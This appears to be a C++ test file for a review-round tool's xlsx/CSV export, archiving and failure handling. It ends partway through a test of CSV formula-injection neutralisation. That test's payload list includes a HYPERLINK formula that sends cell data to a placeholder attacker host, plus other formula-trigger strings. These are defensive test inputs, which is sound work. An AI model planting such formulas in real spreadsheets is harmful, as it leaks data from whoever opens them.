// SPDX-License-Identifier: GPL-3.0-or-later
// Exports: every table to .xlsx and CSV, read back by the project's own readers (same values, numbers as
// numbers, Chinese intact); the round archive made while the app holds the database open; failures that
// leave nothing behind.
#include "MergeFixture.h"

#include "domain/States.h"
#include "export/Export.h"
#include "io/CsvWriter.h"
#include "io/Table.h"
#include "io/ZipReader.h"
#include "repo/RoundRepository.h"

#include <QDir>
#include <QProcess>
#include <QRegularExpression>
#include <QXmlStreamReader>

using namespace rb;
using namespace Qt::Literals::StringLiterals;

namespace {

const QList<exporting::What> kAllTables = {exporting::What::Applications, exporting::What::Assignments,
                                           exporting::What::Scores, exporting::What::Results,
                                           exporting::What::Decisions};

/// A scored demo round (12 applications, 6 experts, 3 per application), made once and copied for each test.
QString scoredDemo(const test::TempDir& dir)
{
    static QTemporaryDir cache;
    static const QString master = [] {
        const QString path = cache.filePath(u"scored.rbdb"_s);
        const test::CliRun run = test::runCli({u"demo"_s, path, u"--applications"_s, u"12"_s, u"--experts"_s, u"6"_s,
                                               u"--per-application"_s, u"3"_s, u"--seed"_s, u"3"_s, u"--scored"_s});
        INFO(run.err.toStdString());
        REQUIRE(run.code == 0);
        return path;
    }();
    const QString copy = dir.path(u"round.rbdb"_s);
    REQUIRE(QFile::copy(master, copy));
    return copy;
}

struct Opened {
    std::unique_ptr<db::Database> db;
    Round round;
};

Opened openRound(const QString& path, const QString& code = {})
{
    Opened o{test::openDb(path), {}};
    Result<Round> round = RoundRepository(*o.db).resolve(code);
    RB_REQUIRE_OK(round);
    o.round = *round;
    return o;
}

exporting::Table build(Opened& o, exporting::What what, bool byCode = false)
{
    Result<exporting::Table> table = exporting::buildTable(*o.db, o.round, what, {byCode});
    RB_REQUIRE_OK(table);
    for (const QVariantList& row : table->rows)
        REQUIRE(row.size() == table->columns.size());
    return *table;
}

bool isNumber(const QVariant& v)
{
    return v.typeId() == QMetaType::LongLong || v.typeId() == QMetaType::Int || v.typeId() == QMetaType::Double;
}

enum class Written { Xlsx, Csv };

/// The table as the readers give it back: text cells, numbers written the reader's way. A CSV neutralises
/// text a spreadsheet would run as a formula; an xlsx holds it as typed, a string cell.
QList<QStringList> expectedText(const exporting::Table& table, Written written = Written::Xlsx)
{
    QList<QStringList> rows;
    for (const QVariantList& row : table.rows) {
        QStringList cells;
        for (const QVariant& v : row)
            cells << (written == Written::Xlsx && v.typeId() == QMetaType::QString ? v.toString() : io::csvCell(v));
        rows << cells;
    }
    return rows;
}

QList<QStringList> readText(const io::Table& read, qsizetype columns)
{
    QList<QStringList> rows;
    for (const io::TableRow& row : read.rows) {
        QStringList cells;
        for (int c = 0; c < columns; ++c)
            cells << row.cell(c);
        rows << cells;
    }
    return rows;
}

void requireSameText(const QList<QStringList>& got, const QList<QStringList>& want)
{
    REQUIRE(got.size() == want.size());
    for (qsizetype i = 0; i < got.size(); ++i) {
        if (got[i] != want[i])
            FAIL("row " << i + 2 << ": read " << got[i].join(u'|').toStdString() << ", wrote "
                        << want[i].join(u'|').toStdString());
    }
}

/// "A1"-style reference of a 0-based row and column (the tables have fewer than 27 columns).
QString cellRef(qsizetype row, qsizetype column)
{
    return QChar(char16_t(u'A' + column)) + QString::number(row + 1);
}

QByteArray zipEntry(const QString& path, const QString& entry)
{
    Result<std::unique_ptr<io::ZipReader>> zip = io::ZipReader::open(test::fileBytes(path));
    RB_REQUIRE_OK(zip);
    Result<QByteArray> data = (*zip)->read(entry);
    RB_REQUIRE_OK(data);
    return *data;
}

/// The stored type of every cell of the first worksheet by reference: "n" (number), "s" (shared string), ...
QHash<QString, QString> xlsxCellTypes(const QString& path)
{
    QHash<QString, QString> types;
    QXmlStreamReader xml(zipEntry(path, u"xl/worksheets/sheet1.xml"_s));
    while (!xml.atEnd()) {
        if (xml.readNext() == QXmlStreamReader::StartElement && xml.name() == "c"_L1) {
            const QString type = xml.attributes().value("t"_L1).toString();
            types.insert(xml.attributes().value("r"_L1).toString(), type.isEmpty() ? u"n"_s : type);
        }
    }
    REQUIRE(!xml.hasError());
    return types;
}

/// Every cell's type in the workbook matches the table's: numbers stored as numbers, text as text, empty as absent.
void requireSameTypes(const exporting::Table& table, const QString& path)
{
    const QHash<QString, QString> types = xlsxCellTypes(path);
    QStringList wrong;
    for (qsizetype c = 0; c < table.columns.size(); ++c) {
        if (types.value(cellRef(0, c)) != u"s"_s)
            wrong << cellRef(0, c);
    }
    for (qsizetype r = 0; r < table.rows.size(); ++r) {
        for (qsizetype c = 0; c < table.columns.size(); ++c) {
            const QVariant& v = table.rows[r][c];
            const QString ref = cellRef(r + 1, c);
            const QString want = isNumber(v) ? u"n"_s : v.toString().isEmpty() ? QString() : u"s"_s;
            if (types.value(ref) != want)
                wrong << u"%1 (%2: %3, want %4)"_s.arg(ref, table.columns[c].header, types.value(ref), want);
        }
    }
    INFO(wrong.join(u", "_s).toStdString());
    CHECK(wrong.isEmpty());
}

bool hasChinese(const QString& text)
{
    static const QRegularExpression han(u"\\p{Han}"_s);
    return han.match(text).hasMatch();
}

test::CliRun exportCli(const QString& db, const QString& what, const QString& out, const QStringList& more = {})
{
    const test::CliRun run = test::runCli(QStringList{u"export"_s, db, u"--what"_s, what, u"--out"_s, out} + more);
    INFO(run.err.toStdString());
    REQUIRE(run.code == 0);
    return run;
}

/// Runs the real reviewbench-cli executable.
int realCli(const QStringList& args, QString* err = nullptr)
{
    QProcess p;
    p.start(QStringLiteral(RB_CLI_PATH), args);
    REQUIRE(p.waitForFinished(60000));
    if (err)
        *err = QString::fromUtf8(p.readAllStandardError());
    return p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
}

QStringList filesIn(const QString& folder)
{
    return QDir(folder).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden, QDir::Name);
}

} // namespace

TEST_CASE("export: every table goes to xlsx and reads back with the same values and types", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    Opened o = openRound(path);
    for (exporting::What what : kAllTables) {
        const QString key = exporting::key(what);
        INFO(key.toStdString());
        const exporting::Table table = build(o, what);
        REQUIRE(table.rows.size() >= 12);
        const QString file = dir.path(key + u".xlsx"_s);
        exportCli(path, key, file, {u"--format"_s, u"xlsx"_s});
        Result<io::Table> read = io::readTable(file);
        RB_REQUIRE_OK(read);
        CHECK(read->encoding == u"xlsx"_s);
        CHECK(read->header == table.headers());
        requireSameText(readText(*read, table.columns.size()), expectedText(table));
        requireSameTypes(table, file);
        // Chinese text intact: the headers, and the project titles of the demo.
        CHECK(read->header.contains(u"申报编号"_s));
        const int title = table.column(u"项目名称"_s);
        REQUIRE(title >= 0);
        CHECK(hasChinese(read->rows.first().cell(title)));
    }
}

TEST_CASE("export: numbers are numbers and codes stay text in each table", "[export]")
{
    test::TempDir dir;
    Opened o = openRound(scoredDemo(dir));
    const QHash<exporting::What, QStringList> numeric = {
        {exporting::What::Applications, {u"推荐顺序"_s}},
        {exporting::What::Scores, {u"分值上限"_s, u"得分"_s}},
        {exporting::What::Results,
         {u"排名"_s, u"综合得分"_s, u"评分专家数"_s, u"分配专家数"_s, u"平均分"_s, u"去掉最高最低分后平均分"_s,
          u"中位数"_s, u"标准差"_s, u"极差"_s}},
        {exporting::What::Decisions, {u"论证次数"_s, u"异议数"_s, u"未处理异议数"_s}},
    };
    for (auto it = numeric.constBegin(); it != numeric.constEnd(); ++it) {
        const exporting::Table table = build(o, it.key());
        INFO(exporting::key(it.key()).toStdString());
        for (const QString& header : it.value()) {
            INFO(header.toStdString());
            const int c = table.column(header);
            REQUIRE(c >= 0);
            CHECK(isNumber(table.rows.first()[c]));
        }
        const int code = table.column(u"申报编号"_s);
        REQUIRE(code >= 0);
        CHECK(table.rows.first()[code].typeId() == QMetaType::QString);
    }
}

TEST_CASE("export: every table goes to CSV with a BOM and CRLF and reads back the same", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    Opened o = openRound(path);
    for (exporting::What what : kAllTables) {
        const QString key = exporting::key(what);
        INFO(key.toStdString());
        const exporting::Table table = build(o, what);
        const QString file = dir.path(key + u".csv"_s);
        exportCli(path, key, file, {u"--format"_s, u"csv"_s});
        const QByteArray bytes = test::fileBytes(file);
        CHECK(bytes.startsWith("\xEF\xBB\xBF"));
        CHECK(bytes.endsWith("\r\n"));
        CHECK(bytes.count('\n') == bytes.count("\r\n")); // no bare LF (the demo has no line breaks in cells)
        CHECK(bytes.count("\r\n") == table.rows.size() + 1);
        Result<io::Table> read = io::readTable(file);
        RB_REQUIRE_OK(read);
        CHECK(read->encoding == u"UTF-8"_s);
        CHECK(read->header == table.headers());
        requireSameText(readText(*read, table.columns.size()), expectedText(table, Written::Csv));
        CHECK(hasChinese(read->rows.first().cell(table.column(u"项目名称"_s))));
    }
}

TEST_CASE("export: the format follows the file name when --format is left out", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    exportCli(path, u"results"_s, dir.path(u"r.csv"_s));
    exportCli(path, u"results"_s, dir.path(u"r.xlsx"_s));
    CHECK(test::fileBytes(dir.path(u"r.csv"_s)).startsWith("\xEF\xBB\xBF"));
    CHECK(test::fileBytes(dir.path(u"r.xlsx"_s)).startsWith("PK\x03\x04"));
}

TEST_CASE("export: CSV quoting follows RFC 4180 and keeps Chinese intact", "[export]")
{
    const QStringList header = {u"名称"_s, u"备注"_s};
    const QList<QVariantList> rows = {
        {u"甲,乙"_s, u"他说\"好\""_s},
        {u"第一行\n第二行"_s, qint64(7)},
        {3.25, QVariant()},
        {u" 前后空格 "_s, u"a\r\nb"_s},
    };
    const QByteArray bytes = io::csvBytes(header, rows);
    CHECK(bytes
          == QByteArray(QByteArray("\xEF\xBB\xBF")
                        + u"名称,备注\r\n\"甲,乙\",\"他说\"\"好\"\"\"\r\n\"第一行\n第二行\",7\r\n3.25,\r\n"
                          " 前后空格 ,\"a\r\nb\"\r\n"_s.toUtf8()));
    Result<io::Table> read = io::parseCsv(bytes, u"t.csv"_s);
    RB_REQUIRE_OK(read);
    CHECK(read->header == header);
    REQUIRE(read->rows.size() == 4);
    CHECK(read->rows[0].cells == QStringList{u"甲,乙"_s, u"他说\"好\""_s});
    CHECK(read->rows[1].cells == QStringList{u"第一行\n第二行"_s, u"7"_s});
    CHECK(read->rows[2].cells == QStringList{u"3.25"_s, QString()});
    CHECK(read->rows[3].cells == QStringList{u" 前后空格 "_s, u"a\r\nb"_s});
}

TEST_CASE("export: the workbook has a bold, frozen header row and sized columns", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    const QString file = dir.path(u"applications.xlsx"_s);
    exportCli(path, u"applications"_s, file);
    const QByteArray sheet = zipEntry(file, u"xl/worksheets/sheet1.xml"_s);
    CHECK(sheet.contains("ySplit=\"1\""));
    CHECK(sheet.contains("state=\"frozen\""));
    CHECK(sheet.contains("<cols>"));
    CHECK(zipEntry(file, u"xl/styles.xml"_s).contains("<b/>"));
    CHECK(zipEntry(file, u"xl/workbook.xml"_s).contains(u"申报项目"_s.toUtf8()));
}

TEST_CASE("export: results follow the consolidation in rank order", "[export]")
{
    test::TempDir dir;
    Opened o = openRound(scoredDemo(dir));
    const exporting::Table table = build(o, exporting::What::Results);
    Result<consolidation::Results> results = consolidation::consolidate(*o.db, o.round);
    RB_REQUIRE_OK(results);
    REQUIRE(table.rows.size() == results->applications.size());
    const int rank = table.column(u"排名"_s);
    const int code = table.column(u"申报编号"_s);
    const int score = table.column(u"综合得分"_s);
    const int experts = table.column(u"评分专家数"_s);
    for (qsizetype i = 0; i < table.rows.size(); ++i) {
        const consolidation::ApplicationResult& a = results->applications[i];
        CHECK(table.rows[i][code].toString() == a.code);
        CHECK(table.rows[i][rank] == (a.rank ? QVariant(qint64(*a.rank)) : QVariant()));
        REQUIRE(a.score);
        CHECK(table.rows[i][score].toDouble() == std::round(*a.score * 100) / 100);
        CHECK(table.rows[i][experts].toLongLong() == a.experts);
    }
    CHECK(table.rows.first()[rank].toLongLong() == 1);
}

TEST_CASE("export: --experts-by-code leaves the experts' names and organisations out", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    Opened o = openRound(path);
    const QSet<QString> names = test::column(*o.db, "SELECT name FROM expert");
    const QSet<QString> organisations = test::column(*o.db, "SELECT organisation FROM expert");
    for (const QString& what : {u"assignments"_s, u"scores"_s}) {
        INFO(what.toStdString());
        const QString hidden = dir.path(what + u"-codes.csv"_s);
        exportCli(path, what, hidden, {u"--experts-by-code"_s});
        Result<io::Table> read = io::readTable(hidden);
        RB_REQUIRE_OK(read);
        CHECK(read->header.contains(u"专家编号"_s));
        CHECK(!read->header.contains(u"专家姓名"_s));
        CHECK(!read->header.contains(u"专家单位"_s));
        for (const io::TableRow& row : read->rows) {
            for (const QString& cell : row.cells)
                REQUIRE((!names.contains(cell) && !organisations.contains(cell)));
        }
        // Without the option the names are there, beside the codes.
        const QString shown = dir.path(what + u"-names.csv"_s);
        exportCli(path, what, shown);
        Result<io::Table> full = io::readTable(shown);
        RB_REQUIRE_OK(full);
        const int name = int(full->header.indexOf(u"专家姓名"_s));
        REQUIRE(name >= 0);
        CHECK(names.contains(full->rows.first().cell(name)));
    }
}

TEST_CASE("export: decisions show the latest case, the votes, the notice, objections and the approval", "[export]")
{
    test::TempDir dir;
    Opened o = openRound(scoredDemo(dir));
    db::Database& db = *o.db;
    const QStringList codes = test::column(db, "SELECT code FROM application").values();
    const qint64 app = *db.scalar("SELECT id FROM application ORDER BY code LIMIT 1", 0);
    const QString code = *db.scalarText("SELECT code FROM application WHERE id = ?1", app);
    // The record as deliberation, notice and workflow leave it: sent back for revision at a first meeting,
    // proposed at a second, on notice with two objections (one still open), approved, the approval once reversed.
    const char* script = R"(
        INSERT INTO meeting (id, uid, round_id, title, held_on, status, created_at)
            VALUES (901, 'm1', :round, '第一次论证会', '2025-05-10', 'closed', '2025-05-01T00:00:00Z'),
                   (902, 'm2', :round, '第二次论证会', '2025-06-20', 'closed', '2025-06-01T00:00:00Z');
        INSERT INTO deliberation_case (id, uid, meeting_id, application_id, position, conclusion, conditions,
                                       collective_opinion, votes_for, votes_against, votes_abstain, concluded_at)
            VALUES (911, 'c1', 901, :app, 0, 'revise', '补充能耗数据', '数据不全', 10, 1, 0, '2025-05-10T08:00:00Z');
        INSERT INTO deliberation_case (id, uid, meeting_id, application_id, position, previous_case_id, conclusion,
                                       collective_opinion, votes_for, votes_against, votes_abstain, concluded_at)
            VALUES (912, 'c2', 902, :app, 0, 911, 'proposed', '同意推荐，建议加强数据安全', 11, 0, 1,
                    '2025-06-20T08:00:00Z');
        INSERT INTO notice (id, uid, round_id, title, start_date, working_days, end_date)
            VALUES (921, 'n1', :round, '2025年拟入选名单公示', '2025-07-01', 5, '2025-07-07');
        INSERT INTO notice_item (notice_id, application_id) VALUES (921, :app);
        INSERT INTO objection (uid, notice_id, application_id, received_on, from_whom, authenticated, content, outcome)
            VALUES ('o1', 921, :app, '2025-07-02', '某公司', 'sealed', '数据存疑', 'dismissed'),
                   ('o2', 921, :app, '2025-07-03', '张三', 'signed', '另有异议', 'pending');
        INSERT INTO workflow_event (id, uid, application_id, from_state, to_state, at, by_user)
            VALUES (931, 'e1', :app, 'public_notice', 'approved', '2025-07-09T12:00:00Z', 'tester');
        INSERT INTO workflow_event (id, uid, application_id, from_state, to_state, at, by_user, reverses_event_id)
            VALUES (932, 'e2', :app, 'approved', 'public_notice', '2025-07-09T13:00:00Z', 'tester', 931);
        INSERT INTO workflow_event (id, uid, application_id, from_state, to_state, at, by_user)
            VALUES (933, 'e3', :app, 'public_notice', 'approved', '2025-07-12T12:00:00Z', 'tester');
        UPDATE application SET state = 'approved' WHERE id = :app;
    )";
    const QByteArray sql = QString::fromUtf8(script)
                               .replace(u":app"_s, QString::number(app))
                               .replace(u":round"_s, QString::number(o.round.id))
                               .toUtf8();
    RB_REQUIRE_OK(db.execScript(sql.constData()));

    const exporting::Table table = build(o, exporting::What::Decisions);
    REQUIRE(table.rows.size() == codes.size());
    auto cell = [&](int row, const char* header) { return table.rows[row][table.column(QString::fromUtf8(header))]; };
    REQUIRE(cell(0, "申报编号").toString() == code);
    CHECK(cell(0, "当前状态").toString() == states::displayName(u"approved"_s));
    CHECK(cell(0, "论证会议").toString() == u"第二次论证会"_s);
    CHECK(cell(0, "会议日期").toString() == u"2025-06-20"_s);
    CHECK(cell(0, "论证次数") == QVariant(qint64(2)));
    CHECK(cell(0, "论证结论").toString() == states::displayName(u"proposed"_s));
    CHECK(cell(0, "赞成票") == QVariant(qint64(11)));
    CHECK(cell(0, "反对票") == QVariant(qint64(0)));
    CHECK(cell(0, "弃权票") == QVariant(qint64(1)));
    CHECK(cell(0, "修改完善要求").toString().isEmpty()); // the first case's conditions were met
    CHECK(cell(0, "论证意见").toString() == u"同意推荐，建议加强数据安全"_s);
    CHECK(cell(0, "公示名称").toString() == u"2025年拟入选名单公示"_s);
    CHECK(cell(0, "公示开始日期").toString() == u"2025-07-01"_s);
    CHECK(cell(0, "公示截止日期").toString() == u"2025-07-07"_s);
    CHECK(cell(0, "异议数") == QVariant(qint64(2)));
    CHECK(cell(0, "未处理异议数") == QVariant(qint64(1)));
    const QString approvedOn =
        QDateTime::fromString(u"2025-07-12T12:00:00Z"_s, Qt::ISODate).toLocalTime().date().toString(Qt::ISODate);
    CHECK(cell(0, "批复日期").toString() == approvedOn);
    // An application nobody deliberated yet: no votes (empty, not zero), no dates.
    CHECK(cell(1, "论证次数") == QVariant(qint64(0)));
    CHECK(cell(1, "赞成票").isNull());
    CHECK(cell(1, "论证结论").toString().isEmpty());
    CHECK(cell(1, "批复日期").toString().isEmpty());

    const QString file = dir.path(u"decisions.xlsx"_s);
    RB_REQUIRE_OK(exporting::writeXlsx(table, file));
    requireSameTypes(table, file);
    Result<io::Table> read = io::readTable(file);
    RB_REQUIRE_OK(read);
    requireSameText(readText(*read, table.columns.size()), expectedText(table));
}

TEST_CASE("export: the applications export imports into a new round", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    const QString file = dir.path(u"申报项目.xlsx"_s);
    exportCli(path, u"applications"_s, file);
    const QString other = dir.path(u"other.rbdb"_s);
    REQUIRE(test::runCli(
                {u"new"_s, other, u"--category"_s, u"factory"_s, u"--year"_s, u"2026"_s, u"--title"_s, u"下一批次"_s})
                .code
            == 0);
    const test::CliRun imported = test::runCli({u"import"_s, u"applications"_s, other, file});
    INFO(imported.err.toStdString());
    REQUIRE(imported.code == 0);
    QSet<QString> before;
    QSet<QString> after;
    for (const QJsonValue& v : test::listJson(u"applications"_s, path))
        before.insert(v[u"code"_s].toString() + v[u"title"_s].toString() + v[u"credit_code"_s].toString());
    for (const QJsonValue& v : test::listJson(u"applications"_s, other))
        after.insert(v[u"code"_s].toString() + v[u"title"_s].toString() + v[u"credit_code"_s].toString());
    CHECK(after == before);
}

TEST_CASE("export: the archive is a consistent copy made while the app holds the database open", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    // The app: it committed a change that still sits in the WAL, and it is reading (an open read transaction).
    std::unique_ptr<db::Database> app = test::openDb(path);
    RB_REQUIRE_OK(app->exec("UPDATE round SET title = ?1", u"归档测试批次"_s));
    RB_REQUIRE_OK(app->execScript("BEGIN; SELECT count(*) FROM score;"));
    REQUIRE(app->inTransaction());
    REQUIRE(QFile::exists(path + u"-wal"_s));
    // A second connection of the app is in the middle of a change: the archive must not hold half of it.
    std::unique_ptr<db::Database> writer = test::openDb(path);
    RB_REQUIRE_OK(writer->execScript("BEGIN IMMEDIATE; UPDATE application SET title = 'uncommitted';"));
    const qint64 scores = *app->scalar("SELECT count(*) FROM score", -1);
    REQUIRE(scores > 0);

    const QString archive = dir.path(u"归档 2025.rbdb"_s);
    exportCli(path, u"archive"_s, archive);
    CHECK(app->inTransaction());
    RB_REQUIRE_OK(writer->execScript("ROLLBACK;"));
    RB_REQUIRE_OK(app->execScript("COMMIT;"));

    std::unique_ptr<db::Database> copy = test::openRaw(archive);
    CHECK(test::rows(*copy, "PRAGMA integrity_check", 1) == QList<QStringList>{{u"ok"_s}});
    Result<QStringList> problems = db::schema::integrityProblems(*copy);
    RB_REQUIRE_OK(problems);
    CHECK(problems->isEmpty());
    CHECK(*copy->scalar("SELECT count(*) FROM score", -1) == scores);
    CHECK(*copy->scalarText("SELECT title FROM round") == u"归档测试批次"_s);
    CHECK(*copy->scalar("SELECT count(*) FROM application WHERE title = 'uncommitted'", -1) == 0);
    CHECK(*copy->scalar("PRAGMA application_id", 0) == db::schema::kApplicationId);
    // For the record only: the secretariat's secret round key is not in it, not even in a free page.
    const QByteArray roundSecret =
        QByteArray::fromHex(app->scalarText("SELECT hex(secret_key) FROM round_key")->toLatin1());
    REQUIRE(roundSecret.size() == 64);
    CHECK(*copy->scalar("SELECT count(*) FROM round_key", -1) == 0);
    CHECK_FALSE(test::fileBytes(archive).contains(roundSecret.left(32)));
    // One file: no WAL of its own, nothing left beside it.
    CHECK(*copy->scalarText("PRAGMA journal_mode") == u"delete"_s);
    copy.reset();
    CHECK(!QFile::exists(archive + u"-wal"_s));
    const QStringList parts = filesIn(QFileInfo(archive).absolutePath()).filter(u".part"_s);
    CHECK(parts.isEmpty());
    // It is a round database the program opens like any other.
    const test::CliRun check = test::runCli({u"check"_s, archive});
    INFO(check.err.toStdString());
    CHECK(check.code == 0);
}

TEST_CASE("export: the archive of one round of several holds only that round", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    REQUIRE(test::runCli(
                {u"new"_s, path, u"--category"_s, u"scenario"_s, u"--year"_s, u"2025"_s, u"--title"_s, u"第二批次"_s})
                .code
            == 0);
    const QString firstCode = *test::openDb(path)->scalarText("SELECT code FROM round ORDER BY id LIMIT 1");
    Opened o = openRound(path, firstCode);
    db::Database& db = *o.db;
    const QString second = *db.scalarText("SELECT code FROM round WHERE id <> ?1", o.round.id);
    // The second round: the contract sample's applications, and one applicant shared with the first round.
    const QStringList shared =
        test::rows(db, "SELECT p.name, p.credit_code FROM applicant p ORDER BY p.id LIMIT 1", 2).first();
    const QString csv = QString::fromUtf8(test::fileBytes(test::sample(u"applications.csv"_s))).trimmed()
                        + u"\nS04,%1,%2,浙江省,装备制造,共享申报单位的场景\n"_s.arg(shared[0], shared[1]);
    const test::CliRun imported =
        test::runCli({u"import"_s, u"applications"_s, path, dir.writeText(u"second.csv"_s, csv), u"--round"_s, second});
    INFO(imported.err.toStdString());
    REQUIRE(imported.code == 0);
    // As a re-evaluation round would: the second round points at the first and at one of its applications.
    RB_REQUIRE_OK(db.exec("UPDATE round SET source_round_id = ?1 WHERE code = ?2", o.round.id, second));
    RB_REQUIRE_OK(db.exec("UPDATE application SET source_application_id = (SELECT min(id) FROM application WHERE "
                          "round_id = ?1) WHERE code = 'S04' AND round_id <> ?1",
                          o.round.id));
    const qint64 scores = *db.scalar("SELECT count(*) FROM score", -1);

    // Several rounds and none named: refused, as every command that acts on a round.
    CHECK(test::runCli({u"export"_s, path, u"--what"_s, u"archive"_s, u"--out"_s, dir.path(u"x.rbdb"_s)}).code == 1);
    CHECK(!QFile::exists(dir.path(u"x.rbdb"_s)));

    const QString first = dir.path(u"first.rbdb"_s);
    exportCli(path, u"archive"_s, first, {u"--round"_s, o.round.code});
    {
        std::unique_ptr<db::Database> copy = test::openRaw(first);
        Result<QStringList> problems = db::schema::integrityProblems(*copy);
        RB_REQUIRE_OK(problems);
        CHECK(problems->isEmpty());
        CHECK(test::column(*copy, "SELECT code FROM round") == QSet<QString>{o.round.code});
        CHECK(*copy->scalar("SELECT count(*) FROM application", -1) == 12);
        CHECK(*copy->scalar("SELECT count(*) FROM score", -1) == scores);
        CHECK(*copy->scalar("SELECT count(*) FROM audit_log WHERE round_id IS NOT NULL AND round_id <> ?1", -1,
                            o.round.id)
              == 0);
        CHECK(test::column(*copy, "SELECT name FROM applicant").contains(shared[0]));
        CHECK(!test::column(*copy, "SELECT name FROM applicant").contains(u"示例新材料股份有限公司"_s));
    }
    // The other round's rows are gone from the file, not only from its tables (the copy was compacted).
    const QByteArray bytes = test::fileBytes(first);
    CHECK(!bytes.contains(u"示例新材料股份有限公司"_s.toUtf8()));
    CHECK(!bytes.contains(u"共享申报单位的场景"_s.toUtf8()));

    const QString other = dir.path(u"second.rbdb"_s);
    exportCli(path, u"archive"_s, other, {u"--round"_s, second});
    std::unique_ptr<db::Database> copy = test::openRaw(other);
    Result<QStringList> problems = db::schema::integrityProblems(*copy);
    RB_REQUIRE_OK(problems);
    CHECK(problems->isEmpty());
    CHECK(test::column(*copy, "SELECT code FROM round") == QSet<QString>{second});
    CHECK(*copy->scalar("SELECT count(*) FROM application", -1) == 4);
    CHECK(*copy->scalar("SELECT count(*) FROM score", -1) == 0);
    CHECK(*copy->scalar("SELECT count(*) FROM expert", -1) == 0);
    CHECK(*copy->scalar("SELECT count(*) FROM round WHERE source_round_id IS NOT NULL", -1) == 0);
    CHECK(*copy->scalar("SELECT count(*) FROM application WHERE source_application_id IS NOT NULL", -1) == 0);
    CHECK(*copy->scalar("SELECT count(*) FROM applicant", -1) == 4);
}

TEST_CASE("export: a failed export leaves nothing behind and exits non-zero", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    const QString folder = QFileInfo(path).absolutePath();
    const QByteArray hash = test::fileHash(path);
    const QString missing = dir.path(u"no such folder"_s);
    struct Case {
        QStringList args;
        int exit;
        QString mentions;
    };
    const QList<Case> cases = {
        {{u"--what"_s, u"results"_s, u"--format"_s, u"xlsx"_s, u"--out"_s, missing + u"/r.xlsx"_s}, 3, u"r.xlsx"_s},
        {{u"--what"_s, u"scores"_s, u"--format"_s, u"csv"_s, u"--out"_s, missing + u"/s.csv"_s}, 3, u"s.csv"_s},
        {{u"--what"_s, u"archive"_s, u"--out"_s, missing + u"/a.rbdb"_s}, 3, u"a.rbdb"_s},
        {{u"--what"_s, u"everything"_s, u"--out"_s, dir.path(u"e.xlsx"_s)}, 1, u"everything"_s},
        {{u"--what"_s, u"results"_s, u"--format"_s, u"pdf"_s, u"--out"_s, dir.path(u"r.pdf"_s)}, 1, u"pdf"_s},
        {{u"--what"_s, u"results"_s}, 1, u"--out"_s},
        {{u"--what"_s, u"archive"_s, u"--format"_s, u"csv"_s, u"--out"_s, dir.path(u"a.rbdb"_s)}, 1, u"--format"_s},
        {{u"--what"_s, u"archive"_s, u"--out"_s, path}, 1, u"round.rbdb"_s},
        {{u"--what"_s, u"results"_s, u"--format"_s, u"csv"_s, u"--out"_s, path}, 1, u"round.rbdb"_s},
        {{u"--what"_s, u"results"_s, u"--round"_s, u"1999-XXX"_s, u"--out"_s, dir.path(u"r.xlsx"_s)}, 1, QString()},
    };
    for (const Case& c : cases) {
        INFO(c.args.join(u' ').toStdString());
        QString err;
        CHECK(realCli(QStringList{u"export"_s, path} + c.args, &err) == c.exit);
        INFO(err.toStdString());
        CHECK(err.contains(c.mentions));
        CHECK(filesIn(folder) == QStringList{u"round.rbdb"_s});
        CHECK(!QFileInfo::exists(missing));
    }
    CHECK(test::fileHash(path) == hash);
}

TEST_CASE("export: a cancelled archive keeps the old file and leaves no part behind", "[export]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    Opened o = openRound(path);
    const QString target = dir.write(u"a.rbdb"_s, "old archive");
    int calls = 0;
    Status cancelled = exporting::archive(*o.db, o.round, target, [&](qint64 done, qint64 total) {
        ++calls;
        CHECK((done > 0 && done <= total));
        return false;
    });
    REQUIRE(!cancelled.ok());
    CHECK(cancelled.error().kind == ErrorKind::Cancelled);
    CHECK(calls == 1);
    CHECK(test::fileBytes(target) == "old archive");
    CHECK(filesIn(QFileInfo(target).absolutePath()).filter(u".part"_s).isEmpty());
    // Let through, it replaces the old file and reports every page.
    qint64 last = -1;
    qint64 pages = 0;
    RB_REQUIRE_OK(exporting::archive(*o.db, o.round, target, [&](qint64 done, qint64 total) {
        last = done;
        pages = total;
        return true;
    }));
    CHECK(last == pages);
    CHECK(test::fileBytes(target).startsWith("SQLite format 3"));
    CHECK(filesIn(QFileInfo(target).absolutePath()).filter(u".part"_s).isEmpty());
}

TEST_CASE("export: archiving through a connection in the middle of a change is refused at once", "[export]")
{
    test::TempDir dir;
    Opened o = openRound(scoredDemo(dir));
    RB_REQUIRE_OK(o.db->execScript("BEGIN IMMEDIATE; UPDATE round SET title = 'unsaved';"));
    const QString target = dir.path(u"a.rbdb"_s);
    const Status refused = exporting::archive(*o.db, o.round, target);
    REQUIRE(!refused.ok());
    CHECK(refused.error().kind == ErrorKind::Usage);
    CHECK(filesIn(QFileInfo(target).absolutePath())
          == QStringList{u"round.rbdb"_s, u"round.rbdb-shm"_s, u"round.rbdb-wal"_s});
    RB_REQUIRE_OK(o.db->execScript("ROLLBACK;"));
}

TEST_CASE("export: titles and comments that look like formulas are neutralised in CSV and stay text in xlsx",
          "[export][csv-formulas]")
{
    test::TempDir dir;
    const QString path = scoredDemo(dir);
    Opened o = openRound(path);
    const QStringList payloads = {u"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")"_s,
                                  u"+1"_s,
                                  u"-2+3"_s,
                                  u"@SUM(A1)"_s,
                                  u"\t=1"_s,
                                  u"\r=1"_s};
    QStringList appCodes;
    for (const QStringList& r : test::rows(*o.db, "SELECT code FROM application ORDER BY code", 1))
        appCodes << r.first();
    REQUIRE(appCodes.size() >= payloads.size());
    for (qsizetype i = 0; i < payloads.size(); ++i) {
        RB_REQUIRE_OK(o.db->exec("UPDATE application SET title = ?1 WHERE code = ?2", payloads[i], appCodes[i]));
        // Every score comment of the application too: the experts' text reaches the scores export.
